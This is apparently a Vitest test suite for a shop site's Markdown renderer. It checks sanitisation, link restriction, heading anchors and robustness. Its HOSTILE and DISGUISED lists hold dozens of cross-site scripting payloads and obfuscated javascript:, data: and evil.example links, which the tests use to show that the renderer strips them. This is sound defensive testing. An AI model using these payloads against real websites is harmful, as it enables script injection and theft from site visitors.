import { describe, expect, it } from "vitest";
import { renderedBody, renderMarkdown } from "#content/markdown.server.ts";
import { filledThroughout } from "#content/placeholders.model.ts";
import { recordedLogger } from "../../support/recorded-logger.ts";

const SITE = "https://shop.example";
const html = (markdown: string) => renderMarkdown(markdown).html;

/** Every link target in a piece of HTML, resolved as in a browser. */
function addressesIn(text: string): URL[] {
  return [...text.matchAll(/\shref="([^"]*)"/g)].map(([, address = ""]) => new URL(decoded(address), SITE));
}

function decoded(text: string): string {
  return text.replaceAll("&quot;", '"').replaceAll("&lt;", "<").replaceAll("&gt;", ">").replaceAll("&amp;", "&");
}

/** Names of all elements and attributes of a piece of HTML. */
function namesIn(text: string): string[] {
  const tags = [...text.matchAll(/<\/?([a-z0-9]+)((?:\s+[^\s=>"]+(?:="[^"]*")?)*)\s*\/?>/gi)];
  expect(text.replace(/<\/?[a-z0-9]+(?:\s+[^\s=>"]+(?:="[^"]*")?)*\s*\/?>/gi, "")).not.toMatch(/[<>]/);
  return tags.flatMap(([, name = "", attributes = ""]) => [
    name,
    ...[...attributes.matchAll(/([^\s=]+)="/g)].map(([, attribute = ""]) => `${name}.${attribute}`),
  ]);
}

const ELEMENTS =
  /^(h[234]|p|br|hr|blockquote|ul|ol|li|strong|em|del|code|pre|a|table|thead|tbody|tr|th|td|table\.tabindex|a\.(href|rel)|h2\.id|ol\.start|t[hd]\.align|th\.scope)$/;

function expectHarmless(text: string): void {
  expect(namesIn(text).filter((name) => !ELEMENTS.test(name))).toEqual([]);
  for (const { protocol, origin } of addressesIn(text)) {
    expect(["https:", "mailto:", "tel:"]).toContain(protocol);
    if (protocol === "https:" && origin !== SITE) expect(text).toContain(`href="${origin}`);
  }
}

const HOSTILE = [
  "<script>alert(1)</script>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<SCRIPT SRC=https://evil.example/x.js></SCRIPT >",
  "<script\n>alert(1)</script\n>",
  "<img src=x onerror=alert(1)>",
  "![x](javascript:alert(1))",
  '![x](/images/x.svg "onload=alert(1)")',
  "<p onclick=alert(1) onmouseover='alert(1)'>words</p>",
  "<a href='/x' onclick=alert(1) style='position:fixed;inset:0' target=_top ping=https://evil.example>words</a>",
  "<iframe src='https://evil.example'></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'>",
  "<svg><a xlink:href='javascript:alert(1)'><text>words</text></a></svg>",
  "<svg onload=alert(1)>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<style>body { display: none }</style>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<base href=https://evil.example>",
  "<form action=https://evil.example><input name=password><button>Go</button></form>",
  "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<textarea></textarea><img src=x onerror=alert(1)>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<!--[if IE]><script>alert(1)</script><![endif]-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<?php echo 1 ?>",
  "<div><b><i><a href='/x'>never closed",
  "</div></main></body></html><script>alert(1)</script>",
  "```\n<script>alert(1)</script>\n```",
  "`<img src=x onerror=alert(1)>`",
  "|a|\n|-|\n|<img src=x onerror=alert(1)>|",
  "[words](</x onclick=alert(1)>)",
  '[words](/x "onmouseover=alert(1)")',
  '<a href="/x&quot; onclick=&quot;alert(1)">words</a>',
  "<a href='/x\"onclick=alert(1)'>words</a>",
  "[words][1]\n\n[1]: javascript:alert(1)",
  "<javascript:alert(1)>",
];

const DISGUISED = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  " javascript:alert(1)",
  "&#106;avascript:alert(1)",
  "&#x6A;avascript&#58;alert(1)",
  "javascript&colon;alert(1)",
  "java&Tab;script:alert(1)",
  "java&NewLine;script:alert(1)",
  "java\tscript:alert(1)",
  "java\u0000script:alert(1)",
  "\u0001javascript:alert(1)",
  "java<!-- -->script:alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "vbscript:msgbox(1)",
  "blob:https://shop.example/1",
  "file:///etc/passwd",
  "http://evil.example",
  "//evil.example",
  "\\\\evil.example",
  "/\\evil.example",
  "\\/evil.example",
  "/\t/evil.example",
  "&#47;/evil.example",
];

describe("renderMarkdown", () => {
  it("S7-40 The renderer removes all malicious HTML", () => {
    for (const text of HOSTILE)
      for (const written of [text, `words ${text} words`, `- ${text}`, `## ${text}`, `> ${text}`])
        expectHarmless(html(written));
    expect(html("<script>alert(1)</script>")).toBe("");
    expect(html("<style>p{}</style>")).toBe("");
    expect(html("before <!-- a comment --> after").trim()).toBe("<p>before  after</p>");
    expect(html("`<b>`").trim()).toBe("<p><code>&lt;b&gt;</code></p>");
  });

  it("S7-40 The renderer allows links only to pages, https, mail and telephone numbers, however they are disguised", () => {
    for (const address of DISGUISED) {
      for (const written of [`[words](${address})`, `[words](<${address}>)`, `<a href="${address}">words</a>`]) {
        const shown = html(written);
        expectHarmless(shown);
        for (const { hostname } of addressesIn(shown)) expect(hostname).not.toContain("evil");
      }
      expect(html(`<a href="${address}">words</a>`)).toContain("words");
    }
  });

  it("The renderer preserves valid links and marks external ones", () => {
    expect(html("[a](/personal/fibre)")).toBe('<p><a href="/personal/fibre">a</a></p>\n');
    expect(html("[a](#section-b)")).toContain('<a href="#section-b">');
    expect(html("[a](https://other.example/x?y=1&z=2)")).toContain(
      '<a href="https://other.example/x?y=1&amp;z=2" rel="noopener external">',
    );
    expect(html("[a](HTTPS://other.example)")).toContain('rel="noopener external"');
    expect(html("[a](mailto:help@shop.example) [b](tel:+27100000001)")).toMatch(
      /href="mailto:help@shop\.example".*href="tel:\+27100000001"/,
    );
  });

  it("The renderer supports the standard Markdown elements", () => {
    const shown = html(
      "## Part\n\nA **bold** and *quiet* word.  \nNext ~~gone~~ `code`.\n\n1. one\n2. two\n\n- three\n\n> said\n\n### Less\n\n| A | B |\n|---|--:|\n| 1 | 2 |\n\n---",
    );
    for (const name of ["h2", "h3", "p", "strong", "em", "br", "del", "code", "ol", "ul", "li", "blockquote", "table"])
      expect(namesIn(shown)).toContain(name);
    expect(shown).toContain('<th scope="col">A</th>');
    expect(shown).toContain('<td align="right">2</td>');
    expectHarmless(shown);
  });

  it("The renderer makes a wide table focusable and no other", () => {
    const rows = (columns: number) => ["x", "-", "y"].map((cell) => `|${` ${cell} |`.repeat(columns)}`).join("\n");
    expect(html(rows(4))).toContain('<table tabindex="0">');
    expect(html(`${rows(3)}\n\nwords\n\n${rows(4)}`).match(/<table[^>]*>/g)).toEqual([
      "<table>",
      '<table tabindex="0">',
    ]);
    expect(html('<table tabindex="5"><tr><td>a</td></tr></table>')).toContain("<table><");
  });

  it("The renderer closes unclosed elements", () => {
    expect(html("<blockquote><strong>never closed")).toBe("<blockquote><strong>never closed</strong></blockquote>");
    expect(
      html("</blockquote></p>words")
        .replace(/<\/?p>/g, "")
        .trim(),
    ).toBe("words");
  });

  it("S2-24 The renderer gives each second-level heading a unique anchor and lists the headings", () => {
    const { html: shown, headings } = renderMarkdown(
      "## What you **need**\n\n## What you need\n\n### Not a part\n\n## [A link](/x) & more\n\n## Фибра",
    );
    expect(headings).toEqual([
      { anchor: "what-you-need", text: "What you need" },
      { anchor: "what-you-need-2", text: "What you need" },
      { anchor: "a-link-more", text: "A link & more" },
      { anchor: "part", text: "Фибра" },
    ]);
    expect([...shown.matchAll(/ id="([^"]*)"/g)].map(([, id]) => id)).toEqual(
      headings.map(({ anchor }) => `section-${anchor}`),
    );
  });

  it.each([
    ["numbered headings", "## Part 3\n\n## Part\n\n## Part\n\n## Part\n\n## Part 2"],
    [
      "HTML headings",
      '## Part\n\n<h2 id="section-part">Part</h2>\n\n<h2 id="main">Main</h2>\n\n<h1 id="title">Title</h1>\n\n# Part',
    ],
  ])("S2-24 Heading anchors are unique in a text with %s", (_, markdown) => {
    const { html: shown, headings } = renderMarkdown(markdown);
    const ids = [...shown.matchAll(/ id="([^"]*)"/g)].map(([, id = ""]) => id);
    expect(new Set(ids).size).toBe(ids.length);
    expect(ids).toEqual(headings.map(({ anchor }) => `section-${anchor}`));
    expect(ids.filter((id) => !/^section-[a-z0-9-]+$/.test(id))).toEqual([]);
  });

  it("Rendered headings range from h2 to h4", () => {
    expect(html("# One\n\n###### Six\n\n<h1>Two</h1>")).toMatch(/<h2 [^>]*>One<\/h2>\s*<h4>Six<\/h4>\s*<h2>Two<\/h2>/);
  });

  it("The renderer handles very long and deeply nested texts", () => {
    for (const text of [
      ">".repeat(60_000),
      "> ".repeat(30_000),
      "<blockquote>".repeat(1_000),
      "[".repeat(20_000),
      "*a **a ".repeat(2_000),
      "# a\n\n".repeat(2_000),
      `${"word ".repeat(100)}\n\n`.repeat(120),
    ])
      expectHarmless(html(text));
    expect(renderMarkdown("# a\n\n".repeat(2_000)).headings.at(-1)?.anchor).toBe("a-2000");
  });

  it("The operator's name is rendered as plain text, even when it contains markup", () => {
    const name = '<img src=x onerror=alert(1)> [x](javascript:alert(1)) "Yo" & Co';
    const body = filledThroughout(
      { body: "## By {{brand.name}}\n\n[{{brand.name}}](/deals)" },
      new Map([["brand.name", name]]),
    );
    const shown = renderedBody(recordedLogger(), body);
    expectHarmless(shown.html);
    expect(shown.html).toContain("&amp; Co");
    expect(shown.headings[0]?.text).toContain("& Co");
  });

  it("A text that the parser rejects is shown as plain text", () => {
    const { logger, lines } = recordedLogger();
    const shown = renderedBody({ logger }, { body: `<b>${"1. ".repeat(19_000)}` });
    const deep = renderedBody({ logger }, { body: `${"1. ".repeat(19_000)}<script>x</script>` });
    expect(lines.join()).toContain("text shown without its form");
    expect(shown.html).toContain("1. 1. ");
    expect(deep.html).toMatch(/^<p>1\. 1\. /);
    expectHarmless(deep.html);
  });

  it("Each version of a document is rendered only once", () => {
    const document = { body: "words" };
    const context = recordedLogger();
    expect(renderedBody(context, document)).toBe(renderedBody(context, document));
    expect(renderedBody(context, { body: "words" })).not.toBe(renderedBody(context, document));
  });
});
